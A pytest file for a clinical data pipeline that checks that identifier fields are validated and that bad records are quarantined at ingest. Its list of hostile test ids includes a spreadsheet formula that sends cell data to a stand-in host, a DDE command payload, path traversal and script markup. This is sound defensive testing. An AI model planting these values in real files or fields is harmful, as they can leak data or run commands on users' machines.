"""Identifiers are validated at ingest: a formula, a path or markup in an id field never gets in.

Every id a record carries (its own id, the patient reference or MRN, every payload field named
`*_id`) must match ingest.loader.ID_PATTERN: a letter or digit, then letters, digits and `.-_:`,
at most 64 characters. A record with another id is quarantined as `invalid_identifier`, naming
the field; the rest of the file is ingested.
"""
from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import duckdb
import pytest

from ingest.loader import ID_PATTERN
from kap.pipeline import step_ingest
from kap.settings import Settings

LANDING = Path(__file__).parent / "fixtures" / "ingest" / "landing"
DOSING = "dosing/2025-06-01/dosing.000.csv"
NOTES = "notes/notes.000.jsonl"
APPOINTMENTS = "ehr/2025-06-01/Appointment.000.ndjson"

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
    "\tx-1", "\rx-1", "a b", "a/b", "../etc", "<script>x</script>", "x" * 65, ".hidden", "_x", "x;y",
    "ü-1", "",
]
GOOD_IDS = ["d-99", "DL.MRN1000003_2025:01", "1", "x" * 64, "urn:oid:1.2.3"]


def _ingest(tmp_path: Path, edit) -> tuple[Settings, object]:
    land = tmp_path / "landing"
    shutil.copytree(LANDING, land)
    edit(land)
    settings = Settings(home=tmp_path / "home")
    return settings, step_ingest(land, settings)


def _rows(settings: Settings, sql: str, params: list | None = None) -> list[tuple]:
    con = duckdb.connect(str(settings.warehouse), read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def _quarantine(settings: Settings, path: str) -> list[tuple]:
    return _rows(settings, """SELECT q.line_number, q.reason_code, q.detail FROM raw.quarantine q
                              JOIN raw.ingest_files f USING (file_id) WHERE f.path = ? ORDER BY 1""", [path])


def _append_dosing_row(land: Path, dosing_id: str, clinician_id: str = "cl-1") -> None:
    path = land / DOSING
    row = path.read_text("utf-8-sig").splitlines()[1].split(",")
    row[0], row[22] = dosing_id, clinician_id
    cells = ['"' + c.replace('"', '""') + '"' if any(ch in c for ch in ',"\r\n') else c for c in row]
    with open(path, "a", encoding="utf-8", newline="") as f:
        f.write(",".join(cells) + "\n")


def test_pattern_is_letters_digits_and_dot_dash_underscore_colon_up_to_64():
    for good in GOOD_IDS:
        assert re.fullmatch(ID_PATTERN, good), good
    for bad in HOSTILE_IDS:
        assert not re.fullmatch(ID_PATTERN, bad), bad


@pytest.mark.parametrize("bad", HOSTILE_IDS[:4] + ["a b", "x" * 65])
def test_formula_injection_in_a_dosing_id_is_quarantined(tmp_path, bad):
    settings, summary = _ingest(tmp_path, lambda land: _append_dosing_row(land, bad))
    rows = _quarantine(settings, DOSING)
    assert [r[1] for r in rows if r[1] == "invalid_identifier"] == ["invalid_identifier"]
    assert any("record id does not match" in r[2] for r in rows)
    dosing = next(f for f in summary.files if f.path == DOSING)
    assert dosing.records_accepted > 0, "the rest of the file is ingested"


def test_formula_in_a_staff_id_field_is_quarantined_and_named(tmp_path):
    settings, _ = _ingest(tmp_path, lambda land: _append_dosing_row(land, "d-99", "@SUM(1+1)"))
    rows = [r for r in _quarantine(settings, DOSING) if r[1] == "invalid_identifier"]
    assert len(rows) == 1 and rows[0][2].startswith("clinician_id does not match")


def test_hostile_note_and_fhir_ids_are_quarantined(tmp_path):
    def edit(land: Path) -> None:
        notes = land / NOTES
        first = json.loads(notes.read_text("utf-8").splitlines()[0])
        bad_note = {**first, "note_id": "n-99", "clinic_id": '=HYPERLINK("x")'}
        with open(notes, "a", encoding="utf-8") as f:
            f.write(json.dumps(bad_note) + "\n")
        appts = land / APPOINTMENTS
        first = json.loads(appts.read_text("utf-8").splitlines()[0])
        with open(appts, "a", encoding="utf-8") as f:
            f.write(json.dumps({**first, "id": "+cmd|calc"}) + "\n")
            bad_ref = json.loads(json.dumps(first))
            bad_ref["id"] = "a-99"
            bad_ref["participant"][0]["actor"]["reference"] = "Patient/-1+1"
            f.write(json.dumps(bad_ref) + "\n")
    settings, _ = _ingest(tmp_path, edit)
    notes = [r for r in _quarantine(settings, NOTES) if r[1] == "invalid_identifier"]
    assert len(notes) == 1 and notes[0][2].startswith("clinic_id does not match")
    appts = {r[2].split(" does not")[0] for r in _quarantine(settings, APPOINTMENTS) if r[1] == "invalid_identifier"}
    assert appts == {"record id", "patient reference"}


def test_good_ids_are_accepted(tmp_path):
    def edit(land: Path) -> None:
        for i, good in enumerate(GOOD_IDS):
            _append_dosing_row(land, good)
    settings, _ = _ingest(tmp_path, edit)
    assert not [r for r in _quarantine(settings, DOSING) if r[1] == "invalid_identifier"]


def _append_local_clock_row(land: Path, dosing_id: str, clinician_id: str) -> None:
    """A dosing row whose times carry no UTC offset: read in the clinic's zone (KAP_TIMEZONE), which
    rewrites its payload after the reader built it (ingest/clocks.py)."""
    path = land / DOSING
    row = path.read_text("utf-8-sig").splitlines()[1].split(",")
    row[0], row[22] = dosing_id, clinician_id
    for i in (8, 9, 10):                       # start_at, end_at, monitoring_end_at
        row[i] = row[i][:19]
    with open(path, "a", encoding="utf-8", newline="") as f:
        f.write(",".join(row) + "\n")


def test_a_row_read_in_the_clinic_zone_keeps_its_identifier_check(tmp_path, monkeypatch):
    """A row whose payload the clock rewrites (its times shifted, time_zone_assumed added) is held to
    the identifier rule like any other: a bad id is named, a good one is accepted in the zone."""
    monkeypatch.setenv("KAP_TIMEZONE", "America/Los_Angeles")
    monkeypatch.delenv("KAP_CLINIC_TIMEZONES", raising=False)

    def edit(land: Path) -> None:
        _append_local_clock_row(land, "d-98", "=HYPERLINK(1)")
        _append_local_clock_row(land, "d-97", "cl-1")
    settings, _ = _ingest(tmp_path, edit)
    bad = [r for r in _quarantine(settings, DOSING) if r[1] == "invalid_identifier"]
    assert len(bad) == 1 and bad[0][2].startswith("clinician_id does not match"), bad
    good = _rows(settings, "SELECT payload->>'time_zone_assumed', payload->>'start_at' FROM raw.events "
                           "WHERE source_record_id LIKE '%d-97%'")
    assert good == [("America/Los_Angeles", "2025-05-05T16:10:00Z")], good
